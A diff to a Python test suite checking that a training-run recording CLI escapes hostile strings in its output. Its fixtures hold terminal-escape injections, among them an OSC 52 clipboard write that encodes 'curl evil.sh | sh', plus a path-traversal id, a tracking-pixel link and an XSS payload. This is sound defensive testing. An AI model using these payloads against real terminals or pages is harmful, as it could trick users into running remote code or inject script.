@@ -43,6 +43,8 @@ OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
 CSI = "\x1b[2J\x1b[31m"
 HOSTS = (f"node{OSC_TITLE}|a", f"node{OSC_CLIPBOARD}{CSI}b")
 RUN = "../../%Y%m%d-%H%M%S-evil"
+ESC_RUN = f"early{OSC_TITLE}"
+"""An earlier run of the same recording, whose id carries an escape."""
 JOB = f"job{CSI}"
 IMG = "![pixel](http://evil.example/p.png)"
 HTML = "<img src=x onerror=alert(1)>"
@@ -56,14 +58,17 @@ MANIFEST = {
 
 
 def hostile_recording(path: Path) -> Path:
-    """A four-rank run on two hosts with every hostile string above."""
-    j = job(world=4, steps=8, slow=2, run=RUN, name=JOB)
-    for r in range(4):
-        ident = {**identity(r, 4), "host": HOSTS[r // 2]}
-        j.messages[2 * r] = schema.hello_message(
-            header(RUN, r, JOB), ident, manifest={**MANIFEST, "rank": r}, t_start_ns=BASE
-        )
-    record(path, j)
+    """Two four-rank runs on two hosts with every hostile string above (``RUN`` last)."""
+    jobs = []
+    for run in (ESC_RUN, RUN):
+        j = job(world=4, steps=8, slow=2, run=run, name=JOB)
+        for r in range(4):
+            ident = {**identity(r, 4), "host": HOSTS[r // 2]}
+            j.messages[2 * r] = schema.hello_message(
+                header(run, r, JOB), ident, manifest={**MANIFEST, "rank": r}, t_start_ns=BASE
+            )
+        jobs.append(j)
+    record(path, *jobs)
     return path
 
 
@@ -187,13 +192,16 @@ def test_tui_host_with_osc2_osc52_csi_is_shown_escaped(hostile, tmp_path, monkey
 # -- the commands ----------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("command", ["inspect", "diagnose", "ladder"])
-def test_command_output_has_no_terminal_escape(hostile, capsys, command) -> None:
-    assert main([command, str(hostile)]) == 0
+@pytest.mark.parametrize("command", ["inspect", "diagnose", "ladder", "export"])
+def test_command_output_has_no_terminal_escape(hostile, capsys, tmp_path, command) -> None:
+    extra = ["--csv", str(tmp_path / "csv")] if command == "export" else []
+    if command in ("export", "ladder"):
+        extra += ["--run", ESC_RUN]  # these print the run id
+    assert main([command, str(hostile), *extra]) == 0
     out = capsys.readouterr().out
     assert ESC not in out and "\x07" not in out
-    if command == "inspect":
-        assert for_terminal(HOSTS[1]) in out  # the name is shown, as visible escapes
+    shown = for_terminal(HOSTS[1]) if command == "inspect" else "\\x1b]2;pwned-title"
+    assert shown in out  # the name is shown, as visible escapes
 
 
 def test_report_and_snapshot_output_have_no_terminal_escape(
